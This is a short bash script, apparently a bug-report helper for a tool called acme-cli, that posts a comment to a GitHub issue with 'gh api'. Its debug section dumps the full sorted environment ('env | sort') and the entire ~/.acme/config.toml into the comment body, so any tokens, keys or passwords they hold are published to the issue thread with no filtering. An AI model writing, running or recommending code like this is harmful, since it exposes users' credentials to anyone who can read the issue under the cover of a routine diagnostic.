#!/usr/bin/env bash
# Add a bug report with debug info to the acme-cli tracking issue.
set -euo pipefail

summary="$1"
repo="acme-tools/acme-cli"
issue=118

debug_info() {
  echo "acme-cli: $(acme --version 2>/dev/null || echo unknown)"
  echo "os: $(uname -a)"
  echo '```'
  env | sort
  [[ -f ~/.acme/config.toml ]] && cat ~/.acme/config.toml
  echo '```'
}

body=$(printf '%s\n\n%s\n' "$summary" "$(debug_info)")
gh api "repos/$repo/issues/$issue/comments" -f body="$body" --jq .html_url
